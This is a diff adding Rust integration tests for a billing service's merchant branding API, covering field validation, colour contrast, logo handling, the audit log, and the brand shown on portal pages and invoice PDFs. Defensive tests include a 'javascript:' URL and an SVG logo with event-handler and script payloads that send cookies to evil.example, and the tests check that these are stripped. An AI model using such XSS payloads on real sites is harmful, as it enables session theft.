@@ -1,0 +1,228 @@
+//! The merchant's brand: `GET`/`POST /v1/branding` with every refusal naming its field,
+//! logos (PNG as sent, SVG sanitised and served under a no-script policy), colours with
+//! WCAG AA text and link colours, and the brand on the portal's pages and invoice PDFs.
+use base64::{engine::general_purpose::STANDARD, Engine};
+use serde_json::{json, Value};
+
+use crate::{
+    on_both_backends,
+    support::{Backend, TestApp},
+};
+
+/// A 1×1 PNG.
+const PNG: &str =
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC";
+
+async fn brand(app: &TestApp, body: Value) -> (u16, Value) {
+    app.api("POST", "/v1/branding", Some(body)).await
+}
+
+async fn branding_is_validated_and_stored(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let (status, default) = app.api("GET", "/v1/branding", None).await;
+    assert_eq!(status, 200, "{default}");
+    assert_eq!(default["accentColor"], Value::Null);
+    assert_eq!(default["accentTextColor"], "#ffffff");
+    assert_eq!(default["warnings"], json!([]));
+
+    let (status, saved) = brand(
+        &app,
+        json!({
+            "businessName": "Acme Cloud GmbH",
+            "accentColor": "#0E7490",
+            "supportUrl": "https://acme.example/help",
+            "supportEmail": "billing@acme.example",
+            "privacyPolicyUrl": "https://acme.example/privacy",
+            "termsOfServiceUrl": "https://acme.example/terms",
+            "logo": { "contentType": "image/png", "data": PNG }
+        }),
+    )
+    .await;
+    assert_eq!(status, 200, "{saved}");
+    assert_eq!(saved["accentColor"], "#0e7490");
+    assert_eq!(saved["accentTextColor"], "#ffffff");
+    assert_eq!(saved["linkColor"], "#0e7490");
+    assert_eq!(saved["logo"]["contentType"], "image/png");
+    let logo_url = saved["logo"]["url"].as_str().unwrap().to_string();
+    let logo = app.http.get(app.url(&logo_url)).send().await.unwrap();
+    assert_eq!(logo.status(), 200);
+    assert_eq!(logo.headers()["content-type"], "image/png");
+    assert_eq!(
+        logo.bytes().await.unwrap().to_vec(),
+        STANDARD.decode(PNG).unwrap()
+    );
+
+    // A light accent: dark text on buttons, darker links, and a warning for the merchant.
+    let (status, light) = brand(&app, json!({ "accentColor": "#fde047" })).await;
+    assert_eq!(status, 200);
+    assert_eq!(light["accentTextColor"], "#111827");
+    assert_ne!(light["linkColor"], "#fde047");
+    assert!(
+        light["warnings"][0].as_str().unwrap().contains("4.5:1"),
+        "{light}"
+    );
+    assert_eq!(
+        light["businessName"], "Acme Cloud GmbH",
+        "other fields kept"
+    );
+    assert_eq!(light["logo"]["contentType"], "image/png", "the logo kept");
+
+    // Refusals name their field and change nothing.
+    let too_big = STANDARD.encode(vec![0u8; 600 * 1024]);
+    for (body, param) in [
+        (json!({ "accentColor": "teal" }), "accentColor"),
+        (json!({ "supportUrl": "javascript:alert(1)" }), "supportUrl"),
+        (
+            json!({ "privacyPolicyUrl": "/privacy" }),
+            "privacyPolicyUrl",
+        ),
+        (json!({ "supportEmail": "not an email" }), "supportEmail"),
+        (
+            json!({ "logo": { "contentType": "image/png", "data": "bm90IGEgcG5n" } }),
+            "logo.data",
+        ),
+        (
+            json!({ "logo": { "contentType": "image/gif", "data": PNG } }),
+            "logo.contentType",
+        ),
+        (
+            json!({ "logo": { "contentType": "image/png", "data": too_big } }),
+            "logo.data",
+        ),
+        (
+            json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode("<html/>") } }),
+            "logo.data",
+        ),
+        (json!({ "colour": "#fff" }), "colour"),
+    ] {
+        let (status, body) = brand(&app, body).await;
+        assert_eq!(
+            (status, body["error"]["param"].as_str()),
+            (400, Some(param)),
+            "{body}"
+        );
+    }
+    let (_, unchanged) = app.api("GET", "/v1/branding", None).await;
+    assert_eq!(unchanged["accentColor"], "#fde047");
+
+    // Clearing fields and the logo.
+    let (status, cleared) = brand(&app, json!({ "supportUrl": null, "logo": null })).await;
+    assert_eq!(status, 200);
+    assert_eq!(cleared["supportUrl"], Value::Null);
+    assert_eq!(cleared["logo"], Value::Null);
+    assert_eq!(
+        app.http
+            .get(app.url(&logo_url))
+            .send()
+            .await
+            .unwrap()
+            .status(),
+        404
+    );
+
+    // Recorded in the audit log; another merchant's brand is its own.
+    let (_, log) = app.api("GET", "/v1/audit_log?limit=1", None).await;
+    assert_eq!(log["data"][0]["action"], "branding.updated");
+    let other = crate::support::seed_merchant(&app.db, "Other Co").await;
+    let (_, theirs) = app
+        .api_as(&other.secret_key, "GET", "/v1/branding", None)
+        .await;
+    assert_eq!(theirs["businessName"], Value::Null);
+}
+on_both_backends!(branding_is_validated_and_stored);
+
+async fn an_svg_logo_is_neutralised(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 10" onload="alert(document.cookie)"><script>fetch('https://evil.example/?c='+document.cookie)</script><rect width="40" height="10" fill="#0e7490" onmouseover="alert(1)"/><text x="2" y="8">Acme</text></svg>"##;
+    let (status, saved) = brand(
+        &app,
+        json!({ "logo": { "contentType": "image/svg+xml", "data": STANDARD.encode(svg) } }),
+    )
+    .await;
+    assert_eq!(status, 200, "{saved}");
+    let response = app
+        .http
+        .get(app.url(saved["logo"]["url"].as_str().unwrap()))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.headers()["content-type"], "image/svg+xml");
+    let policy = response.headers()["content-security-policy"]
+        .to_str()
+        .unwrap()
+        .to_string();
+    assert!(policy.contains("default-src 'none'") && policy.contains("sandbox"));
+    let served = response.text().await.unwrap();
+    for gone in ["script", "onload", "onmouseover", "evil.example", "cookie"] {
+        assert!(!served.contains(gone), "{gone} in {served}");
+    }
+    assert!(served.contains("<rect") && served.contains("Acme"));
+}
+on_both_backends!(an_svg_logo_is_neutralised);
+
+async fn the_portal_and_pdfs_wear_the_brand(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let (status, _) = brand(
+        &app,
+        json!({
+            "businessName": "Acme Cloud GmbH",
+            "accentColor": "#fde047",
+            "supportEmail": "billing@acme.example",
+            "privacyPolicyUrl": "https://acme.example/privacy",
+            "termsOfServiceUrl": "https://acme.example/terms",
+            "logo": { "contentType": "image/png", "data": PNG }
+        }),
+    )
+    .await;
+    assert_eq!(status, 200);
+    let cookie = app.signed_in_cookie().await;
+    for path in ["/portal", "/portal/invoices", "/portal/activity"] {
+        let (status, html) = app.page(&cookie, path).await;
+        assert_eq!(status, 200, "{path}");
+        assert!(
+            html.contains("--accent: #fde047; --accent-text: #111827;"),
+            "{path}"
+        );
+        assert!(html.contains("class=\"merchant-logo\""), "{path}");
+        assert!(html.contains("Acme Cloud GmbH"));
+        assert!(html.contains("href=\"https://acme.example/privacy\""));
+        assert!(html.contains("href=\"https://acme.example/terms\""));
+        assert!(html.contains("mailto:billing@acme.example"));
+    }
+
+    // A new invoice's PDF carries the brand's contact and legal links.
+    let sub = app.merchant.subscription_id.clone();
+    app.api(
+        "POST",
+        &format!("/v1/subscriptions/{sub}"),
+        Some(json!({ "price": "price_pro_monthly", "prorationBehavior": "always_invoice" })),
+    )
+    .await;
+    let invoice = app.subscription(&sub).await["latestInvoice"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let pdf = app
+        .http
+        .get(app.url(&format!("/v1/invoices/{invoice}/pdf")))
+        .bearer_auth(&app.merchant.secret_key)
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("branded.pdf");
+    std::fs::write(&path, &pdf).unwrap();
+    let text = std::process::Command::new("pdftotext")
+        .args(["-enc", "UTF-8"])
+        .arg(&path)
+        .arg("-")
+        .output()
+        .unwrap();
+    let text = String::from_utf8(text.stdout).unwrap();
+    assert!(text.contains("billing@acme.example"), "{text}");
+    assert!(text.contains("https://acme.example/privacy"));
+}
+on_both_backends!(the_portal_and_pdfs_wear_the_brand);
